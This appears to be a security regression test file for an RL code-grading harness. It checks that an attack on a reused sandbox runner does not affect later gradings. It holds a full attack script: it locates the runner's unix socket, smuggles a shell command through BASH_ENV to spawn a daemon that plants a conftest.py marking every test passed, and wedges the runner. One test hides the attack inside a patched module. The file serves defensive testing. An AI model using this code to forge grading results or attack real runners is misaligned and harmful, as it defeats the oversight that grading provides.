"""Nothing a use of a reused grading sandbox does reaches the warm runner's next use (harness/warm.py, grade_many.py).

The attack (issue #38's report): find the runner's abstract socket in /proc/net/unix, queue complete requests
of the attacker's making (its interpreter, ``-p antigravity`` with an environment that makes it run a shell
command: a daemon that plants a conftest.py turning every report into a pass), each with its own
connection's client end passed inside it, and wedge the runner with one header byte and the connection's own
fd. On the runner before the fix, the queued requests were served after the reset's kill loop and the next
grading of a README-only patch resolved; the wedge made the next gold grading a ``test_timeout``.
Real ns sandboxes, the project's own Grader.
"""

from __future__ import annotations

import asyncio

import pytest
from tests.conftest import available_factory, readme_patch

from swe_rl.harness.grade_many import Grader
from swe_rl.harness.grade_patch import grade_in, grade_patch
from swe_rl.sandbox.pool import SandboxPool

pytestmark = pytest.mark.ns

FORGE = """import pytest

@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    outcome.get_result().outcome = "passed"
"""

# A daemon (its own session) that keeps a forging conftest.py at the testbed's root for a minute.
DAEMON = """import os, time
end = time.time() + 60
while time.time() < end:
    try:
        if not os.path.exists("/testbed/conftest.py"):
            open("/testbed/conftest.py", "w").write(os.environ["ATTACK_CONFTEST"])
    except OSError:
        pass
    time.sleep(0.02)
"""

ATTACK = r"""import os, socket, struct, sys, time

def listeners():
    for line in open("/proc/net/unix").read().splitlines()[1:]:
        fields = line.split()
        if len(fields) >= 8 and fields[3] == "00010000" and fields[7].startswith("@"):
            yield fields[7][1:]

def request():
    env = dict(os.environ, BROWSER="/bin/bash", ATTACK_DAEMON=DAEMON, ATTACK_CONFTEST=FORGE,
               BASH_ENV='$(setsid python -c "$ATTACK_DAEMON" </dev/null >/dev/null 2>&1 &)')
    args = ["-p", "antigravity", "--co", "-q", "-p", "no:cacheprovider"]
    fields = ["module", sys.executable, "", "/", "18", str(len(args)), *args]
    data = b"\0".join([f.encode() for f in fields] + [f"{k}={v}".encode() for k, v in env.items()])
    return len(data).to_bytes(4, "big") + data

def send(address, data, hold=False):
    conn = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    conn.connect("\0" + address)
    own = struct.pack("3i", conn.fileno(), conn.fileno(), conn.fileno())
    conn.sendmsg([data[:4] if not hold else data[:1]], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, own)])
    if hold:  # the wedge: one header byte, its own fd inside it, held open by a daemon of its own
        if os.fork() == 0:
            os.setsid()
            time.sleep(120)
            os._exit(0)
        return "wedged"
    conn.sendall(data[4:])
    conn.settimeout(10)
    try:
        return conn.recv(100).decode().split("\n")[0]
    except OSError as exc:
        return f"no answer ({exc})"

found = list(listeners())
print("listeners", len(found))
for address in found:
    for _ in range(3 if MODE != "wedge" else 0):
        try:
            print("request", send(address, request()), flush=True)
        except OSError as exc:
            print("request refused", exc, flush=True)
    try:
        print(send(address, b"\0", hold=True), flush=True)
    except OSError as exc:
        print("wedge refused", exc, flush=True)
"""


def _attack(mode: str) -> bytes:
    return f"MODE = {mode!r}\nDAEMON = {DAEMON!r}\nFORGE = {FORGE!r}\n{ATTACK}".encode()


@pytest.mark.parametrize("mode", ["official", "strict"])
async def test_requests_queued_on_the_runner_in_one_use_are_not_served_in_the_next(mode, task_by_id, envs):
    task = task_by_id["swe-rl-builtin__textkit-3"]
    env = envs.ensure(task)
    factory = available_factory("ns")
    readme = await readme_patch(factory, env)
    fresh = await grade_patch(task, readme, factory, env, timeout=60, mode=mode)
    assert not fresh.resolved and fresh.status == "unresolved"
    grader = Grader(SandboxPool(factory, idle=1))
    try:
        assert (
            await grader.grade(task, task.patch, env, timeout=60, mode=mode)
        ).resolved  # forked, its runner launched with the sandbox
        async with grader.sandbox(env) as slot:  # armed for this use: the attack runs while it listens
            assert slot.runner is not None and slot.runner.address
            await slot.box.write_file("/tmp/attack.py", _attack("queue"))
            attacked = await slot.box.exec("python /tmp/attack.py", timeout=60)
            # the positive control: the attacker found the armed runner, which forked its request, and the
            # request's daemon forges a verdict in this same use
            assert "listeners 1" in attacked.output and "request forked" in attacked.output, attacked.output
            for _ in range(100):
                if (await slot.box.exec("test -f conftest.py", timeout=10)).returncode == 0:
                    break
                await asyncio.sleep(0.1)
            forged = await grade_in(slot.box, task, readme, timeout=60, mode=mode)
            if mode == "official":
                assert forged.resolved, forged.test_output[-2000:]
            else:  # the log passes every test (the steering line says so), the sealed results do not
                assert (forged.resolved, forged.seal) == (False, "contradicted"), forged.log[-2000:]
                assert "sealed test results" in forged.log
        await asyncio.sleep(1)
        after = await grader.grade(task, readme, env, timeout=60, mode=mode)
        assert (after.status, after.tests_status) == (fresh.status, fresh.tests_status), after.test_output[
            -2000:
        ]
        assert after.test_runner == "forked", "a runner of its own, launched after the reset"
        gold = await grader.grade(task, task.patch, env, timeout=60, mode=mode)
        assert gold.resolved and gold.test_runner == "forked"
        assert grader.stats["created"] == 1 and grader.stats["runners"] == 4  # one per use
    finally:
        await grader.close()


async def test_a_wedged_runner_is_let_go_before_the_next_use(task_by_id, envs):
    task = task_by_id["swe-rl-builtin__textkit-3"]
    env = envs.ensure(task)
    grader = Grader(SandboxPool(available_factory("ns"), idle=1))
    try:
        assert (await grader.grade(task, task.patch, env, timeout=60)).resolved
        async with grader.sandbox(env) as slot:
            assert slot.runner is not None
            await slot.box.write_file("/tmp/attack.py", _attack("wedge"))
            attacked = await slot.box.exec("python /tmp/attack.py", timeout=60)
            assert "wedged" in attacked.output, attacked.output
            # the positive control: the wedge holds this use's one connection: the use's own run goes cold
            held = await grade_in(slot.box, task, task.patch, timeout=60, runner=slot.runner)
            assert held.resolved and held.test_runner.startswith("cold"), held.test_runner
        gold = await grader.grade(task, task.patch, env, timeout=60)
        assert gold.status == "resolved" and gold.test_runner == "forked", gold.test_runner
        assert grader.stats["runners"] == 3, "one per use: the wedged one ended with its use"
    finally:
        await grader.close()


@pytest.mark.parametrize("mode", ["official", "strict"])
async def test_an_attack_from_the_patched_module_reaches_nothing_of_the_next_grading(mode, task_by_id, envs):
    """The reported path: the attack in a module the tests import (kept by strict mode: an existing
    source file), run by a forked test run; the next grading of a README-only patch is as in a fresh sandbox."""
    task = task_by_id["swe-rl-builtin__textkit-3"]
    env = envs.ensure(task)
    factory = available_factory("ns")
    (path,) = {line[6:] for line in task.patch.splitlines() if line.startswith("+++ b/")}
    async with await factory.create(env) as box:
        source = (await box.read_file(path)).decode()
        code = f"MODE = 'queue'\nDAEMON = {DAEMON!r}\nFORGE = {FORGE!r}\n{ATTACK}"
        runs = "import subprocess, sys\nsubprocess.run([sys.executable, '-c', " + repr(code) + "])\n"
        await box.write_file(path, (runs + source).encode())
        attack = await box.diff()
    readme = await readme_patch(factory, env)
    fresh = await grade_patch(task, readme, factory, env, timeout=60, mode=mode)
    grader = Grader(SandboxPool(factory, idle=1))
    try:
        assert (await grader.grade(task, task.patch, env, timeout=60, mode=mode)).resolved
        assert (await grader.grade(task, attack, env, timeout=60, mode=mode)).test_runner == "forked"
        await asyncio.sleep(1)
        after = await grader.grade(task, readme, env, timeout=60, mode=mode)
        assert (after.status, after.tests_status) == (fresh.status, fresh.tests_status), after.test_output[
            -2000:
        ]
        assert after.test_runner == "forked"
    finally:
        await grader.close()
